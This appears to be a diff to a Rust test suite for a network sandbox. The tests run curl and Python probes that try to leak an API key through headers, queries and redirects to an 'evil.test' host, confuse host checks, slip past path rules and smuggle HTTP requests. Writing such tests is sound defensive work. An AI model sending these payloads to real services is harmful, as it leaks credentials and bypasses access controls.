@@ -40,7 +40,7 @@ const PLACEHOLDERS: &[Attack] = &[
     attack("origin", "curl -sS -H \"origin: https://$API_KEY\" https://good.test/astray", "/astray", canary!("header origin")),
     attack("header_of_tracing", "curl -sS -H \"x-request-id: $API_KEY\" https://good.test/astray", "/astray", canary!("header x-request-id")),
     attack("language", "curl -sS -H \"accept-language: $API_KEY\" https://good.test/astray", "/astray", canary!("header accept-language")),
-    attack("name_of_a_header", "curl -sS -H \"x-$API_KEY: 1\" https://good.test/astray", "/astray", canary!("header")),
+    attack("name_of_a_header", "curl -sS -H \"x-$API_KEY: 1\" https://good.test/astray", "/astray", canary!("header name")),
     attack("query", "curl -sS \"https://good.test/astray?x=$API_KEY\"", "/astray", canary!("query")),
     attack(
         "query_in_percents",
@@ -100,7 +100,7 @@ show(s, head("POST", "/echo", "good.test", "transfer-encoding: chunked", "traile
     attack(
         "redirect_to_a_host_that_is_not_bound",
         "curl -sS -L --location-trusted -H \"authorization: Bearer $API_KEY\" 'https://good.test/redirect?https://evil.test/stolen'",
-        "stolen\",",
+        "\"sni\":\"evil.test\"",
         canary!("host=\"evil.test\""),
     ),
     attack(
@@ -139,11 +139,8 @@ show(tls("good.test"), head("GET", "/fronted", "good.test", "host: evil.test"))'
     attack("user_in_the_host", r#"python3 -c '
 from client import *
 show(tls("good.test"), head("GET", "/fronted", "good.test@evil.test"))'"#, "/fronted", &[&["net.refuse"]]),
-    attack("no_host", r#"python3 -c '
-from client import *
-show(tls("good.test"), "GET /fronted HTTP/1.0\r\n\r\n")'"#, "/fronted", &[&["net.refuse"]]),
-    attack("name_with_a_suffix", "curl -sS https://good.test.evil.example/fronted", "/fronted", &[&["net.name", "good.test.evil.example"]]),
-    attack("name_with_a_prefix", "curl -sS https://notgood.test/fronted", "/fronted", &[&["net.name", "notgood.test"]]),
+    attack("name_with_a_suffix", "curl -sS -k https://good.test.evil.example/fronted", "/fronted", &[&["net.name", "good.test.evil.example"]]),
+    attack("name_with_a_prefix", "curl -sS -k https://notgood.test/fronted", "/fronted", &[&["net.name", "notgood.test"]]),
     attack("connect_to_a_name_that_is_not_granted", "curl -sS -k ${PROXY:+-x $PROXY} https://ungranted.test/fronted", "/fronted", NOT_GRANTED),
     attack("socks_to_a_name_that_is_not_granted", "curl -sS -k ${PROXY:+-x socks5h${PROXY#http}} https://ungranted.test/fronted", "/fronted", NOT_GRANTED),
     attack("absolute_form_to_a_name_that_is_not_granted", "curl -sS ${PROXY:+-x $PROXY} http://ungranted.test/fronted", "/fronted", NOT_GRANTED),
@@ -167,7 +164,7 @@ const RULES: &[Attack] = &[
     attack("double_slashes", "curl -sS --path-as-is https://narrow.good.test//v1//admin", "admin", &[&["net.refuse"]]),
     attack("parameters_of_a_path", "curl -sS --path-as-is 'https://narrow.good.test/v1/..;/admin'", "admin", &[&["net.refuse"]]),
     attack("a_nul_in_percents", "curl -sS --path-as-is https://narrow.good.test/v1/%00/admin", "admin", &[&["net.refuse"]]),
-    attack("letters_in_percents", "curl -sS --path-as-is https://narrow.good.test/%761/admin", "admin", &[&["net.refuse"]]),
+    attack("letters_in_percents", "curl -sS --path-as-is https://narrow.good.test/%61dmin", "dmin", &[&["net.refuse"]]),
     attack("an_overriding_header", "curl -sS -H 'x-http-method-override: DELETE' https://good.test/deleted", "/deleted", &[&["net.refuse"]]),
     attack("another_overriding_header", "curl -sS -H 'x-http-method: DELETE' https://good.test/deleted", "/deleted", &[&["net.refuse"]]),
     attack("a_third_overriding_header", "curl -sS -H 'x-method-override: DELETE' https://good.test/deleted", "/deleted", &[&["net.refuse"]]),
@@ -176,29 +173,38 @@ const RULES: &[Attack] = &[
     attack("an_overriding_query", "curl -sS 'https://good.test/deleted?_method=DELETE'", "_method", &[&["net.refuse"]]),
 ];
 
+/// Framing that servers read differently. The control of these is a server that takes every byte as it comes.
 const SMUGGLED: &[Attack] = &[
     attack("both_lengths", r#"python3 -c '
 from client import *
-show(tls("good.test"), "POST /count HTTP/1.1\r\nhost: good.test\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: good.test\r\nconnection: close\r\n\r\n")'"#, "/smuggled", MALFORMED),
+show(lenient("good.test"), "POST /count HTTP/1.1\r\nhost: good.test\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: good.test\r\nconnection: close\r\n\r\n")'"#, "/smuggled", MALFORMED),
     attack("two_lengths", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("POST", "/smuggled", "good.test", "content-length: 0", "content-length: 3") + "abc")'"#, "/smuggled", &[]),
+show(lenient("good.test"), head("POST", "/smuggled", "good.test", "content-length: 0", "content-length: 3") + "abc")'"#, "/smuggled", &[]),
+    attack("a_list_of_lengths", r#"python3 -c '
+from client import *
+show(lenient("good.test"), head("POST", "/smuggled", "good.test", "content-length: 3, 4") + "abc")'"#, "/smuggled", &[]),
     attack("a_list_of_codings", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("POST", "/smuggled", "good.test", "transfer-encoding: gzip, chunked") + "0\r\n\r\n")'"#, "/smuggled", &[]),
+show(lenient("good.test"), head("POST", "/smuggled", "good.test", "transfer-encoding: gzip, chunked") + "0\r\n\r\n")'"#, "/smuggled", &[]),
+    attack("a_coding_that_nobody_knows", r#"python3 -c '
+from client import *
+show(lenient("good.test"), head("POST", "/smuggled", "good.test", "transfer-encoding: xchunked", "content-length: 3") + "abc")'"#, "/smuggled", &[]),
     attack("a_signed_length", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("POST", "/smuggled", "good.test", "content-length: +3") + "abc")'"#, "/smuggled", &[]),
-    attack("a_long_size_of_a_chunk", r#"python3 -c '
+show(lenient("good.test"), head("POST", "/smuggled", "good.test", "content-length: +3") + "abc")'"#, "/smuggled", &[]),
+    attack("a_size_of_a_chunk_that_overflows", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("POST", "/echo", "good.test", "transfer-encoding: chunked") + "00000000000000000000007\r\narrived\r\n0\r\n\r\n")'"#, "arrived", &[]),
-    attack("a_nominated_header", "curl -sS --http1.1 -H 'connection: authorization, x-mark' -H 'x-mark: nominated' -H \"authorization: Bearer $API_KEY\" https://good.test/echo", "nominated", &[]),
+show(lenient("good.test"), head("POST", "/echo", "good.test", "transfer-encoding: chunked") + "10000000000000007\r\narrived\r\n0\r\n\r\n")'"#, "arrived", &[]),
     attack("a_folded_line", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("GET", "/smuggled", "good.test", "x-a: b\r\n folded: yes"))'"#, "/smuggled", &[]),
+show(lenient("good.test"), head("GET", "/smuggled", "good.test", "x-a: b\r\n folded: yes"))'"#, "/smuggled", &[]),
     attack("a_space_before_the_colon", r#"python3 -c '
 from client import *
-show(tls("good.test"), head("GET", "/smuggled", "good.test", "x-a : b"))'"#, "/smuggled", &[]),
+show(lenient("good.test"), head("GET", "/smuggled", "good.test", "x-a : b"))'"#, "/smuggled", &[]),
+    attack("a_bare_line_feed_in_a_value", r#"python3 -c '
+from client import *
+show(lenient("good.test"), head("GET", "/echo", "good.test", "x-a: b\rsmuggled: c"))'"#, "smuggled: c", &[]),
 ];
 
 pub(crate) fn stories() -> Vec<Story> {
@@ -220,7 +226,9 @@ pub(crate) fn stories() -> Vec<Story> {
 fn tell(stage: &mut Stage, attack: &Attack) -> Told {
     let world = World::new(stage)?;
     let outside = world.outside(stage, attack.script)?;
-    let succeeded = |seen: &str, out: &str| seen.contains(attack.sign) || out.contains(attack.sign);
+    // A refusal may repeat what it refuses.
+    let sign = |line: &str| line.contains(attack.sign) && !line.contains("refused by the sandbox");
+    let succeeded = |seen: &str, out: &str| seen.lines().chain(out.lines()).any(sign);
     must(succeeded(&outside.seen, &outside.ended.out()), || {
         format!("the control does not succeed: nothing is shown. {}", outside.told())
     })?;
